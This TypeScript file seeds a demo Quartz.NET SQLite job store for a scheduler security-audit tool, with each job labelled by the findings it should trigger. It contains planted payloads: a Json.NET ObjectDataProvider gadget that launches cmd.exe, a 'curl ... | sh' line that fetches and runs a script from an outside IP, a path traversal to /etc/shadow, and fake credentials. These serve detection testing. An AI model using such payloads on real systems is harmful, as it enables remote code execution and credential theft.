/**
 * Seed data of `qrtz-audit demo`: a Quartz.NET SQLite JobStore with the kinds of rows the audit exists to find.
 * Every value is made up for the demo (documentation IP ranges, example.com-style hosts, fake credentials).
 */
import Database from 'better-sqlite3';
import { unixMsToTicks } from '../dialects/shared/scheduler.js';
import { writeJobDataMap as writeJavaJobDataMap } from '../fixtures/java-writer.js';
import { writeJobDataMap as writeNrbfJobDataMap } from '../fixtures/nrbf-writer.js';
import { quartzSqliteSchema } from './schema.js';

export const DEMO_SCHED = 'ContosoScheduler';
const MIN = 60_000;

export interface DemoJob {
  group: string;
  name: string;
  jobClass: string;
  description: string;
  data: Uint8Array | null;
  /** What the demo expects the audit to say about it. */
  expect: string[];
}

/** The demo jobs, in insertion order. */
export function demoJobs(): DemoJob[] {
  const json = (o: unknown) => Buffer.from(JSON.stringify(o), 'utf8');
  return [
    {
      group: 'reports',
      name: 'nightly-export',
      jobClass: 'Contoso.Scheduling.ExportJob, Contoso.Scheduling',
      description: 'Exports ERP orders (BinaryFormatter JobDataMap, Quartz.NET 3.x binary serializer)',
      data: writeNrbfJobDataMap({
        exportPath: '/srv/exports/orders',
        dbUser: 'erp_export',
        dbPassword: 'Winter2024!Export',
        batchSize: 500,
      }),
      expect: ['QA-B01', 'QA-S01'],
    },
    {
      group: 'integration',
      name: 'crm-sync',
      jobClass: 'Contoso.Scheduling.CrmSyncJob, Contoso.Scheduling',
      description: 'Json.NET JobDataMap with a planted $type gadget',
      data: json({
        endpoint: 'https://crm.contoso.example/api',
        options: {
          $type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework',
          MethodName: 'Start',
          MethodParameters: { $type: 'System.Collections.ArrayList, mscorlib', $values: ['cmd.exe', '/c calc'] },
          ObjectInstance: { $type: 'System.Diagnostics.Process, System' },
        },
      }),
      expect: ['QA-B02'],
    },
    {
      group: 'legacy',
      name: 'billing-run',
      jobClass: 'com.contoso.billing.BillingJob',
      description: 'Java-serialized JobDataMap migrated from the old Java scheduler',
      data: writeJavaJobDataMap({ invoiceApiToken: 'ghp_4Qm7Zr2Lk9Xw1Ty8Vb3Nc6Hd0Js5Pa2Ue7Fg', batchSize: 200 }),
      expect: ['QA-B07'],
    },
    {
      group: 'ops',
      name: 'cleanup',
      jobClass: 'Quartz.Job.NativeJob, Quartz.Jobs',
      description: 'Runs a shell command from its JobDataMap',
      data: json({
        command: '/bin/sh',
        parameters: '-c "curl -fsSL http://198.51.100.23/u.sh | sh"',
        waitForProcess: true,
        consumeStreams: true,
      }),
      expect: ['QA-J01', 'QA-J02'],
    },
    {
      group: 'ops',
      name: 'watch-config',
      jobClass: 'Quartz.Job.FileScanJob, Quartz.Jobs',
      description: 'Watches a file for changes',
      data: json({
        FILE_NAME: '../../../../etc/shadow',
        FILE_SCAN_LISTENER_NAME: 'configListener',
        MINIMUM_UPDATE_AGE: 5000,
      }),
      expect: ['QA-J03'],
    },
    {
      group: 'reports',
      name: 'daily-summary',
      jobClass: 'Contoso.Scheduling.SummaryJob, Contoso.Scheduling',
      description: 'A clean job: plain JSON, no secrets, no commands',
      data: json({ reportName: 'daily-summary', recipients: 'ops@contoso.example', includeCharts: true }),
      expect: [],
    },
  ];
}

/** Creates the demo JobStore at `path` (which must not exist). Times are .NET ticks, as Quartz.NET writes them. */
export function seedDemoStore(path: string, now = Date.now()): DemoJob[] {
  const jobs = demoJobs();
  const t = (ms: number) => BigInt(unixMsToTicks(ms));
  const db = new Database(path, { fileMustExist: false });
  try {
    db.exec(quartzSqliteSchema());
    const insertJob = db.prepare('INSERT INTO QRTZ_JOB_DETAILS VALUES (?, ?, ?, ?, ?, 1, 0, 0, 0, ?)');
    const insertTrigger = db.prepare(
      `INSERT INTO QRTZ_TRIGGERS (SCHED_NAME, TRIGGER_NAME, TRIGGER_GROUP, JOB_NAME, JOB_GROUP, DESCRIPTION, NEXT_FIRE_TIME,
         PREV_FIRE_TIME, PRIORITY, TRIGGER_STATE, TRIGGER_TYPE, START_TIME, MISFIRE_INSTR, JOB_DATA)
       VALUES (?, ?, ?, ?, ?, NULL, ?, ?, 5, ?, 'CRON', ?, 0, NULL)`,
    );
    const insertCron = db.prepare('INSERT INTO QRTZ_CRON_TRIGGERS VALUES (?, ?, ?, ?, ?)');
    db.transaction(() => {
      for (const [i, j] of jobs.entries()) {
        insertJob.run(DEMO_SCHED, j.name, j.group, j.description, j.jobClass, j.data ? Buffer.from(j.data) : null);
        // crm-sync's trigger is in ERROR state (its job type could not be loaded); the others wait normally.
        const state = j.name === 'crm-sync' ? 'ERROR' : 'WAITING';
        const next = now + (i + 1) * 30 * MIN;
        insertTrigger.run(
          DEMO_SCHED,
          `${j.name}-trigger`,
          j.group,
          j.name,
          j.group,
          t(next),
          t(next - 86_400_000),
          state,
          t(now - 30 * 86_400_000),
        );
        insertCron.run(DEMO_SCHED, `${j.name}-trigger`, j.group, `0 ${i * 5} 2 * * ?`, 'UTC');
      }
      for (const lock of ['TRIGGER_ACCESS', 'STATE_ACCESS']) {
        db.prepare('INSERT INTO QRTZ_LOCKS VALUES (?, ?)').run(DEMO_SCHED, lock);
      }
    })();
  } finally {
    db.close();
  }
  return jobs;
}
